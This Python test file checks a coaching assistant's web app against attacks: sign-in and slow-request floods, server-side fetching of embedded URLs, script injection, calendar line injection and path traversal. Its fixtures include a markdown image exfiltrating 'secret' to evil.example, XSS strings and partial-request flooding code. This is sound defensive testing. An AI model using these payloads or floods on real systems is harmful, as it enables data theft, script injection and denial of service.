"""What was tried by hand with a login and the source, and worked, must not work again."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import httpx
import pytest

from assistant.adapters.sql_accounts import SqlAccounts
from assistant.build import Parts
from assistant.domain import Answer, Brief, Commitment, Coverage, Label, Note, Turn
from assistant.errors import UserMistake
from assistant.privacy import inert
from assistant.studio import Studio
from tests.integration.home import files_with, installation, small_knowledge
from tests.integration.hostile_files import docx, pdf
from tests.integration.pressing import pressed
from tests.servers.running import Served, event, handlers, press
from ui.exports import calendar, markdown
from ui.imports import Imports
from ui.open_requests import CALLS_EACH, STREAMS_EACH
from ui.pages.rehearse import Rehearse
from ui.pages.studio import StudioPage
from ui.texts import texts

ROOT = Path(__file__).resolve().parents[2]
MARK = "Quivermark-4711"
HALF = "\\ud800"
"""Half a character, as JSON can write it and no file can hold it."""


def test_whoever_is_disabled_is_out_within_a_minute_though_a_page_is_open(
    served: Served,
) -> None:
    store = SqlAccounts(served.database)
    with served.signed_in("leaver") as leaver:
        with leaver.stream("GET", "/gradio_api/heartbeat/open-page") as stream:
            alive = stream.iter_lines()
            assert "ALIVE" in next(alive)
            store.keep(replace(store.named("leaver")[0], disabled=True))
            since = time.monotonic()
            for _ in alive:
                assert time.monotonic() - since < 60
        assert time.monotonic() - since < 60
        assert leaver.get("/api/me").status_code == 401


def test_what_fails_is_logged_without_what_was_written(served: Served) -> None:
    with served.signed_in("carl") as carl:
        for number in handlers(carl):
            for do in ("open", "save", "publish", "erase", "keep", "rename", "ask", "give"):
                asked = {"do": do, "note": f"feedback/{MARK * 500}.md", "text": MARK, "title": MARK}
                asked |= {"question": MARK, "conversation": MARK, "correction": MARK, "turn": MARK}
                event(carl, number, f"{number}{do}", json.dumps(asked))
        said = served.printed.read_text("utf-8", "replace")
        assert MARK not in said
        assert "Traceback (most recent call last)" not in said


def test_half_a_character_breaks_nothing_and_is_not_sent_back(served: Served) -> None:
    with served.signed_in("maya") as maya:
        body = f'{{"question":"{MARK} {HALF}","conversation":"c"}}'.encode()
        headers = {"Content-Type": "application/json"}
        refused = maya.post("/api/ask", content=body, headers=headers)
        assert refused.status_code == 422
        assert MARK not in refused.text
        for number in handlers(maya):
            raw = f'{{"do":"ask","question":"Sam {HALF} is late","text":"{HALF}","name":"a{HALF}"}}'
            if "Only those with the role" not in (said := event(maya, number, f"h{number}", raw)):
                assert '"success":true' in said or "no backend" in said or '"error":null' in said
        assert "UnicodeEncodeError" not in served.printed.read_text("utf-8", "replace")


@pytest.mark.parametrize(
    "body",
    [
        b'{"question":' + b"[" * 400_000,
        b'{"question":' + b"9" * 900_000 + b"}",
        b'{"question":"\xe9"}',
        b"",
        b"null",
        b'{"question": NaN}',
        b'{"question": "x", "question": ["y"]}',
    ],
    ids=["deep", "digits", "latin", "empty", "null", "nan", "twice"],
)
def test_a_strange_body_is_a_plain_refusal(served: Served, body: bytes) -> None:
    with served.signed_in("maya") as maya:
        for route in ("/api/ask", "/gradio_api/queue/join"):
            given = maya.post(route, content=body, headers={"Content-Type": "application/json"})
            assert 400 <= given.status_code < 500


def test_many_who_send_nothing_keep_nobody_out(served: Served) -> None:
    port = int(served.home.rsplit(":", 1)[1])
    slow = [socket.create_connection(("127.0.0.1", port)) for _ in range(200)]
    start = b"POST /signin HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 900000\r\n\r\nname="
    try:
        for number, one in enumerate(slow):
            one.sendall(start if number % 2 else start[:30])
        with served.signed_in("maya") as maya:
            assert maya.get("/api/me").json()["name"] == "maya"
    finally:
        for one in slow:
            one.close()


def test_a_step_is_due_within_five_years_and_no_terminal_obeys_its_calendar(
    served: Served,
) -> None:
    week = date.today() + timedelta(days=7)
    with served.signed_in("maya") as maya:
        numbers = handlers(maya)
        for due in ("0001-01-01", "9999-12-31", str(week)):
            step = {"do": "keep", "text": f"Due \x1b[31m {due}", "due": due}
            for number in numbers:
                event(maya, number, f"k{number}{due}", json.dumps(step))
        shown = [event(maya, number, f"c{number}", '{"do":"calendar"}') for number in numbers]
        (written,) = [one for one in shown if "BEGIN:VEVENT" in one]
        assert f"SUMMARY:Due [31m {week}" in written
        assert "0001-01-01" not in written
        assert "9999-12-31" not in written


@contextmanager
def listening() -> Iterator[tuple[str, list[object]]]:
    """A server of the network inside, where nobody may call, and who did."""
    callers: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as inside:

        def answer() -> None:
            with suppress(OSError):
                while True:
                    connection, address = inside.accept()
                    callers.append(address)
                    connection.close()

        threading.Thread(target=answer, daemon=True).start()
        yield f"http://127.0.0.1:{inside.getsockname()[1]}/x.png", callers
        inside.shutdown(socket.SHUT_RDWR)


def test_nothing_that_a_person_or_a_file_names_is_fetched(served: Served) -> None:
    with listening() as (url, callers):
        text = f"Sam is late. ![x]({url}) <img src={url}> [a]: {url} {url}"
        forged = {"url": url, "path": url, "meta": {"_type": "gradio.FileData"}}
        with served.signed_in("maya") as maya:
            assert maya.post("/api/ask", json={"question": text}).status_code == 200
            for way in ("proxy=", "file=", "stream/", "component_server/"):
                assert maya.get(f"/gradio_api/{way}{url}").status_code == 404
            for number in handlers(maya):
                event(maya, number, f"f{number}", json.dumps({"do": "keep", "text": text}))
                event(maya, number, f"g{number}", json.dumps(forged))
        page = f'<img src="{url}"><link rel=stylesheet href="{url}"><iframe src="{url}"></iframe>'
        page += f'<meta http-equiv=refresh content="0;url={url}"><p>Listen before you explain.</p>'
        part = (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/image" TargetMode="External" Target="{url}"/></Relationships>'
        )
        files = {
            "a.md": f"---\nsources: [{url}]\n---\n{text}".encode(),
            "a.html": f"<!DOCTYPE html SYSTEM '{url}'><html><body>{page}</body></html>".encode(),
            "a.docx": docx([text[:12]] * 3, extra={"word/_rels/document.xml.rels": part.encode()}),
            "a.pdf": pdf([[text[:12]] * 3]).replace(
                b"/Type /Catalog", b"/Type /Catalog /URI (%s)" % url.encode()
            ),
        }
        with served.signed_in("dora") as dora:
            for name, body in files.items():
                (row,) = dora.post(f"/api/import?name={name}", content=body, timeout=120).json()
                assert row["verdict"] != "known"
            note = {"note": "feedback/sam.md", "text": f"# Sam\n\n## Leadership moves\n- {text}"}
            for do in ("save", "check", "try"):
                press(dora, "studio", do, **note, question=text)
        assert callers == []
        with socket.create_connection(("127.0.0.1", int(url.split(":")[2].split("/")[0]))):
            pass
        deadline = time.monotonic() + 10
        while not callers and time.monotonic() < deadline:
            time.sleep(0.01)
        assert callers, "the trap was open"


LIVE = [
    "![x](https://evil.example/p.png?d=secret)",
    "[here](javascript:alert(1))",
    "[here][1]\n\n[1]: https://evil.example",
    "![x][1]",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", LIVE)
def test_an_export_loads_nothing_wherever_it_is_opened(text: str) -> None:
    answer = Answer(text, "en", Coverage.GROUNDED, text, cautions=(text,), script=text)
    gift = markdown(text, [Turn("t", "c", text, answer, 0.0)], texts("en"))
    for live in ("<", "](", "]:", "!["):
        assert live not in gift.text
        assert live not in inert(text)
    assert "/" not in gift.name
    assert "\\" not in gift.name


def test_a_step_adds_no_line_of_its_own_to_a_calendar() -> None:
    today = date(2026, 11, 23)
    for end in ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"):
        text = f"Talk{end}ATTENDEE:mailto:x@evil.example{end}END:VEVENT;x,y\\n"
        rows = calendar([Commitment("k", text, Label.LEADERSHIP, today, today)]).text.splitlines()
        assert not [row for row in rows if row.startswith(("ATTENDEE", "END:VEVENT;"))]


def test_a_title_is_data_and_a_path_is_no_longer_than_paths_are(tmp_path: Path) -> None:
    knowledge = small_knowledge(tmp_path)
    (knowledge / "template.md").write_text((ROOT / "knowledge" / "template.md").read_text("utf-8"))
    studio = Studio(knowledge, tmp_path / "desk")
    for number, title in enumerate(("Café culture", r"x \1 \g<0>", 'a" \nstatus: published', "\\")):
        path = studio.begin("feedback", f"{title} {number}x", "carl", 0.0)
        front = studio.text(path).split("---")[1]
        assert front.count("\nstatus:") == 1
        assert "status: draft" in front
        assert f"{number}x" in front
    for path in (f"feedback/{'a' * 5_000}.md", f"{'a/' * 50}b.md", "feedback/../x.md", "/x.md"):
        with pytest.raises(UserMistake):
            studio.text(path)
    assert files_with(tmp_path, "status: published\nstatus") == []


def test_whoever_floods_the_sign_in_stands_in_nobodys_way(served: Served) -> None:
    def guess(number: int) -> int:
        elsewhere = httpx.HTTPTransport(local_address="127.0.0.9")
        with httpx.Client(base_url=served.home, transport=elsewhere, timeout=60) as browser:
            wrong = {"name": f"nobody-{number}", "password": "not this one"}
            return browser.post("/signin", data=wrong).status_code

    with ThreadPoolExecutor(20) as many:
        tried = [many.submit(guess, number) for number in range(20)]
        with served.signed_in("maya") as maya:  # at the first try, though they all wait
            assert maya.get("/api/me").status_code == 200
    assert {one.result() for one in tried} <= {403, 429, 503}


def test_a_coach_who_sends_many_files_at_once_fills_no_memory(served: Served) -> None:
    port = int(served.home.rsplit(":", 1)[1])
    with served.signed_in("dora") as dora, served.signed_in("cora") as cora:
        cookie = "; ".join(f"{name}={value}" for name, value in dora.cookies.items())
        start = (
            "POST /api/import?name=a.txt HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            f"Cookie: {cookie}\r\nContent-Length: 19000000\r\n\r\nOnce"
        )
        slow = [socket.create_connection(("127.0.0.1", port)) for _ in range(8)]
        try:
            for one in slow:
                one.sendall(start.encode())
            deadline, refused = time.monotonic() + 20, 0
            while refused != 503 and time.monotonic() < deadline:
                refused = dora.post("/api/import?name=b.exe", content=b"no").status_code
            assert refused == 503
            assert cora.post("/api/import?name=b.exe", content=b"no").status_code == 200
        finally:
            for one in slow:
                one.close()
        deadline, taken = time.monotonic() + 20, 0
        while taken != 200 and time.monotonic() < deadline:
            taken = dora.post("/api/import?name=b.exe", content=b"no").status_code
        assert taken == 200, "whoever went away counts no more"


def test_one_login_has_so_many_streams_and_requests_open_and_nobody_else_notices(
    served: Served,
) -> None:
    with served.signed_in("rosa") as rosa, served.signed_in("bo") as bo, ExitStack() as open_ones:
        pages = [f"/gradio_api/heartbeat/rosa-{number}" for number in range(STREAMS_EACH + 1)]
        for page in pages[:-1]:
            assert open_ones.enter_context(rosa.stream("GET", page)).status_code == 200
        assert rosa.get(pages[-1]).status_code == 429
        assert rosa.get("/gradio_api/queue/data?session_hash=rosa-1").status_code == 429
        open_ones.enter_context(slow_requests(served, rosa, CALLS_EACH))

        def one_more() -> int:
            """Whoever looks while the slow ones arrive stands in the place of one: fill it up."""
            if (seen := rosa.get("/api/me").status_code) != 429:
                open_ones.enter_context(slow_requests(served, rosa, 1))
            return seen

        assert waited(one_more, 429) == 429
        assert rosa.get("/static/img/logo.svg").status_code != 429
        assert bo.get("/api/me").status_code == 200
        with bo.stream("GET", "/gradio_api/heartbeat/bos-own") as stream:
            assert stream.status_code == 200
        open_ones.close()
        assert waited(lambda: rosa.get("/api/me").status_code, 200) == 200
        with rosa.stream("GET", "/gradio_api/heartbeat/rosa-again") as stream:
            assert stream.status_code == 200


@contextmanager
def slow_requests(served: Served, browser: httpx.Client, count: int) -> Iterator[None]:
    """Questions whose body never comes to its end."""
    cookie = "; ".join(f"{name}={value}" for name, value in browser.cookies.items())
    port = int(served.home.rsplit(":", 1)[1])
    several = [socket.create_connection(("127.0.0.1", port)) for _ in range(count)]
    try:
        for one in several:
            head = f"Host: 127.0.0.1\r\nCookie: {cookie}\r\nContent-Type: application/json\r\n"
            one.sendall(f"POST /api/ask HTTP/1.1\r\n{head}Content-Length: 900\r\n\r\n{{".encode())
        yield
    finally:
        for one in several:
            one.close()


def waited(look: Callable[[], int], wanted: int) -> int:
    """What is seen at last, within twenty seconds."""
    deadline = time.monotonic() + 20
    while (seen := look()) != wanted and time.monotonic() < deadline:
        time.sleep(0.05)
    return seen


def test_whoever_rehearses_or_tries_notes_waits_as_whoever_asks(tmp_path: Path) -> None:
    parts = installation(tmp_path, signin={"questions_per_minute": 1})
    page, brief, note = Rehearse(parts), *_understood(parts)
    practice = page._practices.begin("ada", brief, note, "easy", time.time())
    read: list[str] = []
    parts.coach.urgent = read.append  # type: ignore[method-assign,assignment]
    for line in ("I noticed that you cancel.", "What happened?"):
        list(pressed(parts, "ada", lambda _: page, do="say", id=practice.id, line=line))
    assert read == ["I noticed that you cancel."]
    assert "in a minute" in practice.notice
    studio, text = StudioPage(parts, Imports()), "# Sam\n\n## Leadership moves\n- **Ask.** Ask Sam."
    tried = {"do": "try", "note": "feedback/sam.md", "text": text, "question": "Sam is late."}
    first, second = (
        str(list(pressed(parts, "carl", lambda _: studio, **tried))[-1]) for _ in range(2)
    )
    assert "in a minute" not in first
    assert "in a minute" in second
    assert "Ask Sam" in second, "what is written stays"


def _understood(parts: Parts) -> tuple[Brief, Note]:
    brief, retrieved = parts.coach.understand("They cancel our one-on-ones and I nod along.")
    return brief, retrieved.hits[0].note
